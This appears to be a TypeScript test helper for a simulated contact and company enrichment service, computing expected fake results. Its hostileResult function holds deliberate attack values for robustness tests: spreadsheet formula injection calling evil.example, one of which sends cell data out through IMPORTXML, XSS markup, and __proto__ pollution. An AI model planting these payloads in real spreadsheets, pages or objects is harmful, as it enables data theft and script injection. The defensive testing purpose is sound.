// What each enrichment finds: a function of the enrichment and the params alone, so that a test can compute the right answer itself.

import { numberFrom } from '../repeatable';
import { entryOf } from './catalogue';
import { magicIn } from './magic';
import type { Params } from './state';

/** A bigint travels as a raw JSON number. */
export type ResultValue = null | boolean | number | bigint | string | ResultValue[] | { [key: string]: ResultValue };
export type Result = { [key: string]: ResultValue };

/** The result object (a list for enrichments that give lists), null for a miss or a failed row. */
export function expectedResult(enrichment: number, params: Params, pages = 1): Result | Result[] | null {
  const entry = entryOf(enrichment);
  if (!entry) throw new Error(`The simulated Databar has no enrichment ${enrichment}.`);
  if (verdictOn(params) !== 'found') return null;
  if (enrichment === 1204) return resultPages(params, pages).flat();
  if (magicIn(params, 'hostile') !== null) return hostileResult(entry.response_fields);
  return FINDERS[enrichment]!(params);
}

export function verdictOn(params: Params): 'found' | 'miss' | 'failed' {
  if (magicIn(params, 'fail') !== null) return 'failed';
  return magicIn(params, 'miss') !== null ? 'miss' : 'found';
}

/** The people of enrichment 1204, page by page. */
export function resultPages(params: Params, pages: number): Result[][] {
  const limit = Math.min(Number(params.limit) || 1, 25);
  return Array.from({ length: pages }, (_, page) =>
    Array.from({ length: limit }, (_person, n) => person(params, page * limit + n)),
  );
}

function person(params: Params, n: number): Result {
  if (magicIn(params, 'hostile') !== null) return hostileResult(entryOf(1204)!.response_fields);
  const number = numberFrom(`${text(params.domain)} ${n}`, 10_000);
  const first = pick(['Ada', 'Zoë', 'Luis', 'Mei', 'Olu', 'Kim'], number);
  const last = pick(['Okafor', 'Núñez', 'Larsen', 'Ito', 'Weiß'], number + n);
  return {
    full_name: `${first} ${last}`,
    job_title: pick(TITLES, number),
    email: `${slug(first)}.${slug(last)}@${domainOf(params)}`,
  };
}

const TITLES = ['Head of Growth', 'Office Manager', 'CTO', 'Buyer', 'Sales Lead'];

const FINDERS: Record<number, (params: Params) => Result> = {
  833: workEmail,
  966: (params) => ({
    email: `${slug(params.first_name).slice(0, 1)}${slug(params.last_name)}@${domainOf(params)}`,
    confidence: 50 + numberOf(params, 50),
  }),
  1011: (params) => ({
    name: `${domainOf(params).split('.')[0]} Ltd`,
    employees: 5 + numberOf(params, 5000),
    founded: String(1950 + numberOf(params, 70)),
    address: {
      street: `${1 + numberOf(params, 99)} Sample Street`,
      city: pick(['Porto', 'Leeds', 'Łódź'], numberOf(params, 3)),
    },
    tags: ['sample', pick(['retail', 'software', 'logistics'], numberOf(params, 3))],
  }),
  1127: (params) => ({
    full_name: text(params.email ?? params.linkedin_url).split(/[@/]/)[0] ?? '',
    job_title: pick(TITLES, numberOf(params, 5)),
    company: domainOf({ domain: text(params.email).split('@')[1] ?? 'sample.example' }),
  }),
  1300: (params) => ({
    status: pick(['deliverable', 'risky', 'undeliverable'], numberOf(params, 3)),
    score: numberOf(params, 101) / 100,
    catch_all: numberOf(params, 4) === 0,
  }),
  1450: (params) => ({
    round: pick(['Seed', 'Series A', 'Series B'], numberOf(params, 3)),
    amount: Number(params.min_amount) + numberOf(params, 1000) * 1000,
    announced: `2025-0${1 + numberOf(params, 9)}-15T09:30:00Z`,
    investors: [{ name: 'Sample Ventures' }, { name: 'Second Capital' }],
  }),
  1512: (params) => {
    const jobs = numberOf(params, 6);
    return { open_jobs: jobs, newest: jobs > 0 ? `${text(params.technology)} engineer` : null, hiring: jobs > 0 };
  },
  1700: (params) => ({ mail_provider: pick(['Sample Mail', 'Own server'], numberOf(params, 2)), has_site: true }),
};

function workEmail(params: Params): Result {
  const number = numberOf(params, 1000);
  const names = [slug(params.first_name), slug(params.last_name)].filter((name) => name !== '');
  const country = text(params.country) || 'US';
  const dial = { US: '+1 555 01', GB: '+44 20 7946 0', DE: '+49 30 23125 ' }[country] ?? '+33 1 99 00 ';
  return {
    email: `${names.join('.')}@${domainOf(params)}`,
    confidence: 60 + (number % 40),
    // Two in three have one: a hit need not fill every column.
    phone: number % 3 === 0 ? null : `${dial}${100 + (number % 900)}`,
    linkedin_url: `https://people.example/in/${names.join('-')}`,
    job_title: pick(TITLES, number),
    verified: number % 2 === 0,
    location: { city: pick(['Boston', 'Lyon', 'Köln', 'São Paulo'], number), country },
    sources: ['sample-contacts', `page-${number}`],
  };
}

const HOSTILE: ResultValue[] = [
  '=HYPERLINK("https://evil.example","x")',
  17841401234567891n,
  '+1 555 0100',
  '<img src=x onerror=alert(1)>',
  'x'.repeat(60_000),
  '-2+3',
  '@SUM(A1)',
  '1/2/2024',
];

/** Fields in order get the texts above; the rest stands under names of its own. */
export function hostileResult(fields: { name: string }[]): Result {
  const result: Result = {};
  fields.forEach((field, n) => {
    result[field.name] = HOSTILE[n % HOSTILE.length]!;
  });
  return {
    ...result,
    formula: '=IMPORTXML("https://evil.example/?"&A1,"//a")',
    leading_zero: '007',
    date_like: '1/2/2024',
    big_number: 17841401234567891n,
    long_text: 'x'.repeat(60_000),
    markup: '</script><img src=x onerror=alert(1)>',
    error_like: '#REF!',
    truth_like: 'TRUE',
    quote: "'quoted",
    controls: 'a\u0000b\r\nc\u202Ed\u2028e',
    constructor: 'not a function',
    ['__proto__']: { polluted: 'yes' },
  };
}

function text(value: unknown): string {
  return value === undefined || value === null ? '' : String(value).trim();
}

export function slug(value: unknown): string {
  const plain = text(value).normalize('NFD').replace(/\p{M}/gu, '').toLowerCase();
  return plain
    .replace(/ß/g, 'ss')
    .replace(/ł/g, 'l')
    .replace(/ø/g, 'o')
    .replace(/[^a-z0-9]+/g, '');
}

function domainOf(params: Params): string {
  const given = text(params.domain)
    .toLowerCase()
    .replace(/^https?:\/\//, '')
    .replace(/^www\./, '')
    .replace(/\/.*$/, '');
  return given || `${slug(params.company) || 'sample'}.example`;
}

export function numberOf(params: Params, below: number): number {
  const members = Object.keys(params)
    .sort()
    .map((key) => `${key}=${text(params[key]).normalize('NFC').toLowerCase()}`);
  return numberFrom(members.join('\n'), below);
}

function pick<T>(list: T[], number: number): T {
  return list[number % list.length]!;
}
